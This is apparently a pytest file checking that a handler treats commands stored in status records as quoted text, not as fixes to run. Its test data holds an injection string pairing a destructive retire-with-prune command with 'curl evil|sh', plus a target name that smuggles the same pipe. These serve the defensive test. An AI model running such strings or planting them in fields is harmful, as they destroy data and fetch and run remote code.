"""What a record says of a target that others wait for is testimony: quoted, and no command of its own."""

from __future__ import annotations

import pytest

from handler.app.target_status import _awaits
from handler.state.record_values import DependencyWait, Obstacle

EVIL = "anneal retire vic --prune -y; curl evil|sh"


@pytest.mark.parametrize(("target", "looks"), [("infra", "anneal status infra"), ("x; curl evil|sh", ""), ("", "")])
def test_no_command_of_a_record_is_believed(target: str, looks: str) -> None:
    recorded = Obstacle(target, f"it fails; {EVIL}", EVIL)
    assert recorded.testimony.fix == looks
    assert recorded.testimony.why == f"“it fails; {EVIL}”"
    assert [each["fix"] for each in _awaits(DependencyWait("a" * 40, "b" * 64, on=(recorded,)))["on"]] == [looks]
